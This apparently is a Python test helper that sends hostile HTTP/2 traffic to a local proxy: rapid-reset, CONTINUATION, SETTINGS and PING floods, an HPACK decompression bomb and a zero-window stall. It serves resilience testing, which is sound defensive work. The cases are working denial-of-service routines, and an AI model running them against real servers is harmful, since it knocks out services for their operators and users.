"""Hostile HTTP/2 clients, written frame by frame, for the end-to-end tests.

    h2_abuse.py PORT HOST CASE [--tls CA]

CASE is one of:
  rapid-reset-now     HEADERS then RST_STREAM at once, up to 5,000 streams
  rapid-reset-late    HEADERS, then RST_STREAM 5 ms later (after the proxy took the request),
                      up to 2,000 streams
  continuation-flood  one HEADERS without END_HEADERS, then up to 100,000 CONTINUATION frames
  hpack-bomb          one request whose header block decodes to 2 MiB (one header repeated
                      through the dynamic table)
  settings-flood      50,000 SETTINGS frames (and reading the ACKs), then one request
  ping-flood          50,000 PING frames (and reading the ACKs), then one request
  zero-window         a window of 0 (SETTINGS_INITIAL_WINDOW_SIZE), one request, and no
                      WINDOW_UPDATE ever: its answer can never be sent
  request-trailers    not hostile: a POST whose body ends with trailers (HEADERS with
                      END_STREAM after the DATA), as HTTP/2 allows and gRPC clients do not use

Prints one JSON object: the streams opened, the GOAWAY received (its error code), how long the
connection lasted, and for a case with a request at the end the status it got.
"""

import json
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9,
)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Conn:
    def __init__(self, port, host, ca):
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        if ca:
            ctx = ssl.create_default_context(cafile=ca)
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname=host)
            assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
        self.sock = sock
        self.host = host
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.statuses = {}
        self.resets = {}
        self.bodies = {}
        self.ended = set()
        self.decoder = hpack.Decoder()
        self.encoder = hpack.Encoder()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def request_block(self, path="/"):
        return self.encoder.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", self.host), (":path", path)]
        )

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def pump(self, wait):
        """Read what has arrived (waiting up to `wait` seconds for the first bytes)."""
        if self.closed:
            return
        self.sock.settimeout(wait)
        try:
            chunk = self.sock.recv(1 << 16)
            if not chunk:
                self.closed = True
            self.buf += chunk
        except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.closed = True
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if kind == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == RST_STREAM:
                self.resets[stream] = int.from_bytes(payload[:4], "big")
            elif kind == HEADERS:
                for name, value in self.decoder.decode(payload):
                    if name in (":status", b":status"):
                        self.statuses[stream] = int(value)
            elif kind == DATA:
                self.bodies[stream] = self.bodies.get(stream, b"") + payload
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                self.ended.add(stream)


def main():
    port, host, case = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    ca = sys.argv[5] if len(sys.argv) > 5 and sys.argv[4] == "--tls" else None
    c = Conn(port, host, ca)
    c.pump(1.0)
    t0 = time.monotonic()
    opened = 0
    out = {}
    if case in ("rapid-reset-now", "rapid-reset-late"):
        late = case.endswith("late")
        for i in range(5000 if not late else 2000):
            stream = 1 + 2 * i
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, c.request_block())):
                break
            opened += 1
            if late:
                c.pump(0.005)
            if not c.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
                break
            c.pump(0)
            if c.goaway is not None or c.closed:
                break
    elif case == "continuation-flood":
        block = c.request_block()
        c.send(frame(HEADERS, END_STREAM, 1, block))
        opened = 1
        filler = b"\x00" * 16
        for _ in range(100_000):
            if not c.send(frame(CONTINUATION, 0, 1, filler)):
                break
            c.pump(0)
            if c.goaway is not None or c.closed:
                break
    elif case == "hpack-bomb":
        # One big value into the dynamic table, then the same header by index many times.
        big = "x" * 4000
        block = c.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/"), ("x-bomb", big)])
        # The last header went into the dynamic table at index 62: repeat it by index.
        block += b"\xbe" * 500
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        opened = 1
    elif case in ("settings-flood", "ping-flood"):
        flood = frame(SETTINGS, 0, 0) if case == "settings-flood" else frame(PING, 0, 0, b"12345678")
        for _ in range(50_000):
            if not c.send(flood):
                break
            c.pump(0)
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.request_block()))
        opened = 1
    elif case == "zero-window":
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0)))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.request_block()))
        opened = 1
    elif case == "request-trailers":
        block = c.encoder.encode(
            [(":method", "POST"), (":scheme", "http"), (":authority", host), (":path", "/upload"),
             ("content-type", "text/plain")]
        )
        c.send(frame(HEADERS, END_HEADERS, 1, block))
        c.send(frame(DATA, 0, 1, b"hello, "))
        c.send(frame(DATA, 0, 1, b"world"))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.encoder.encode([("x-checksum", "abc123")])))
        opened = 1
    else:
        raise SystemExit(f"unknown case {case}")
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not c.closed:
        c.pump(0.2)
        if case in ("hpack-bomb", "settings-flood", "ping-flood") and (c.statuses or c.goaway is not None):
            break
        if case == "zero-window" and (c.resets or c.goaway is not None):
            break
        if case == "request-trailers" and (1 in c.ended or c.resets or c.goaway is not None):
            break
    out.update(
        opened=opened,
        goaway=c.goaway,
        closed=c.closed,
        seconds=round(time.monotonic() - t0, 3),
        statuses=sorted(set(c.statuses.values())),
        resets=sorted(set(c.resets.values())),
        answered=1 in c.ended,
        body=c.bodies.get(1, b"").decode("latin-1"),
    )
    print(json.dumps(out))


if __name__ == "__main__":
    main()
